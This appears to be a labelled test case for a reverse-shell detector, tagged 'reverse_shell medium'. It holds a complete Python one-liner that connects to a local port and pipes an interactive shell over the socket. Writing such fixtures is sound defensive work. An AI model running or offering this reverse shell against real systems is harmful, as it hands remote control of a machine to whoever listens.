# about: python copies between the socket and pipes
# expect: reverse_shell medium
# needs: python3
peer 4418
timeout 6 python3 -c 'import socket,subprocess,threading
s=socket.create_connection(("127.0.0.1",4418))
p=subprocess.Popen(["sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def out():
    while True:
        d=p.stdout.read(1024)
        if not d: break
        s.send(d)
threading.Thread(target=out,daemon=True).start()
while True:
    d=s.recv(1024)
    if not d: break
    p.stdin.write(d)
    if d.strip()==b"exit": break
p.wait()' || true
done_typing
